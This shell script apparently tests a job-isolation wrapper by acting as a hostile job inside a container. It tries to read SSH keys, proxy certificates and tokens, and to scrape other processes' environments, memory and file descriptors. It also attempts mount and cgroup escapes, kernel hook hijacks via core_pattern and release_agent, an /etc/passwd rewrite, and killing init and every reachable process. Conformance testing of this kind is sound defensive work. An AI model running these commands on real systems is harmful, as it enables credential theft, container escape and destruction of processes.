#!/bin/sh
# attack.sh PILOT SECRETS PORT: the payload as an attacker, in the container. PILOT is the pilot's process number, SECRETS its directory, PORT a port of its.
# Prints "NAME<tab>ANSWER" for each attempt. What it gets hold of it prints, so that a secret in an answer is a secret lost. The attempts that end everything come last.
pilot=$1 secrets=$2 port=$3

say() { printf '%s\t%s\n' "$1" "$(head -c 300 | tr '\0\n\t' '   ')"; }

# attempt NAME SNIPPET: what it printed, or that nothing came of it.
attempt() {
    answer=$( (eval "$2") 2>&1 | head -c 2000 | tr '\0\n' '  ')
    printf '%s' "${answer:-nothing}" | say "$1"
}

# Files
attempt read-home 'cat $secrets/secret'
attempt read-ssh-key 'cat $secrets/.ssh/id_rsa'
attempt read-proxy 'cat $secrets/x509up'
attempt read-token 'cat $secrets/token'
attempt search-home 'find / -xdev -name x509up 2>/dev/null; find /home /root -name "*rsa*" 2>/dev/null'
attempt up-and-away 'cd ../../../../../../../../../..; cat .$secrets/x509up'
attempt handle 'attacker by-handle $PWD'
attempt leave-root 'attacker leave-root $secrets/secret'

# Environment and command lines
attempt own-environment 'env | grep -E "SECRET|PANDA|X509|BEARER|AWS"'
attempt parent-environment 'tr "\0" "\n" </proc/$PPID/environ | grep SECRET'
attempt init-environment 'tr "\0" "\n" </proc/1/environ | grep SECRET'
attempt pilot-environment 'tr "\0" "\n" </proc/$pilot/environ | grep SECRET'
attempt every-environment 'cat /proc/[0-9]*/environ 2>/dev/null | tr "\0" "\n" | grep SECRET | grep -v "^[a-z-]*="'
attempt every-command-line 'cat /proc/[0-9]*/cmdline | tr "\0" " " | grep -o "SECRE[T]-[A-Z]*"'

# The processes beside it
attempt init-root 'cat /proc/1/root$secrets/x509up'
attempt every-root 'for p in /proc/[0-9]*; do cat $p/root$secrets/x509up 2>/dev/null; done'
attempt every-directory 'for p in /proc/[0-9]*; do cat $p/cwd/../x509up $p/cwd/../../x509up $p/cwd/../pilot/x509up 2>/dev/null; done'
attempt every-file-of-others 'for f in /proc/[0-9]*/fd/*; do case $(readlink $f) in /*) case $(readlink $f) in /dev/*|/proc/*|*/attack.sh) ;; *) timeout 1 cat $f 2>/dev/null ;; esac ;; esac; done | grep SECRET'
attempt inherited-files 'probe fds'
attempt init-files 'ls -l /proc/1/fd 2>/dev/null | grep -E "x509up|pilot"'
attempt init-memory 'attacker open-memory 1'
attempt init-memory-by-call 'attacker read-memory 1'
attempt init-debugger 'attacker attach 1'
attempt init-program 'attacker open-to-write /proc/1/exe'
attempt pilot-memory 'attacker open-memory $pilot'
attempt pilot-debugger 'attacker attach $pilot'
attempt pilot-priority 'attacker priority $pilot'
attempt pilot-limits 'attacker limits $pilot'
attempt pilot-kill 'attacker kill $pilot'
attempt init-kill 'kill -KILL 1; kill -TERM 1; sleep 0.2; echo harmless'

# What does not live in files
attempt keyring 'probe key'
attempt key-by-number 'for k in $(awk "/gridwrap-conformance/ { print \$1 }" /proc/keys); do attacker read-key $((0x$k)); done'
attempt user-keyring 'probe user-key'
attempt shared-memory 'probe host-shm 76544'
attempt message-queue 'probe host-mqueue /gridwrap-hostile'
attempt socket-in-its-directory 'attacker connect $secrets/socket'
attempt abstract-socket 'probe abstract gridwrap-hostile'
attempt loopback-port 'probe tcp $port'
attempt shared-files-in-memory 'ls /dev/shm | grep conformance'

# Mounts, alone and with the capabilities of a nested user namespace
attempt mount-over 'mount -t tmpfs none /etc && echo GOT a mount'
attempt unmount 'umount -l $PWD && ls -l /; umount -l /proc && echo GOT below; umount -l /sys && echo GOT below'
attempt remount 'mount -o remount,rw / && touch /x && echo GOT the root'
attempt nested-unmount 'unshare -Urm sh -c "umount -l \$PWD /tmp /proc /sys /dev" && echo GOT below'
attempt nested-remount 'unshare -Urm sh -c "mount -o remount,bind,rw / && touch /x && echo GOT the root"'
attempt nested-remount-sys 'unshare -Urm sh -c "mount -o remount,bind,rw /sys && echo GOT sys"'
attempt nested-block-device 'unshare -Urm sh -c "mknod /tmp/disk b 254 0 && mount -t ext4 /tmp/disk /mnt && echo GOT the disk"'
attempt block-device 'find /dev -type b | grep . && echo GOT a disk'
attempt mount-comes-out 'unshare -Urm sh -c "mount -t tmpfs none $PWD && echo mounted >$PWD/came-out"; cat $PWD/came-out'

# The kernel
attempt core-pattern 'echo "|/tmp/x" >/proc/sys/kernel/core_pattern && echo GOT core_pattern'
attempt modprobe-path 'echo /tmp/x >/proc/sys/kernel/modprobe && echo GOT modprobe'
attempt uevent-helper 'echo /tmp/x >/sys/kernel/uevent_helper && echo GOT uevent_helper'
attempt nested-core-pattern 'unshare -Urm sh -c "echo x >/proc/sys/kernel/core_pattern && echo GOT core_pattern"'
attempt cgroup-release-agent 'for f in $(find /sys/fs/cgroup -name release_agent); do echo /tmp/x >$f && echo GOT $f; done'
attempt cgroup-leave 'for f in $(find /sys/fs/cgroup -maxdepth 2 -name cgroup.procs); do echo $$ >$f && echo GOT $f; done'
attempt nested-cgroup 'unshare -Urm sh -c "mount -t cgroup -o memory none /mnt && echo GOT cgroup"'
attempt kernel-memory 'head -c 16 /proc/kcore >/dev/null && echo GOT kcore; head -c 1 /dev/mem && echo GOT mem'
attempt kernel-log 'dmesg | head -n 1 | grep -c .  | sed "s/^0$//; s/1/the log is not closed on this node/"'
attempt sysrq 'echo t >/proc/sysrq-trigger && echo GOT sysrq'

# Its own ground
attempt job-directory-replaced 'cd /; mv $OLDPWD $OLDPWD.away && mkdir $OLDPWD && echo GOT replaced'
attempt job-directory-removed 'cd /; rmdir $OLDPWD && echo GOT removed'
attempt identity-rewritten 'echo "root::0:0::/:/bin/sh" >/etc/passwd && su -c "id -u"'
attempt setuid-program '/modes/4755 | grep -v "^12345$"'

# A daemon that lives on, and the end of everything within reach
(trap "" TERM HUP INT; setsid sh -c 'trap "" TERM HUP INT; sleep 76545 & sleep 0.1' >/dev/null 2>&1 &) 
sleep 0.3
printf 'daemon\tleft one behind\n'
printf 'kill-all\t'
exec attacker kill-all
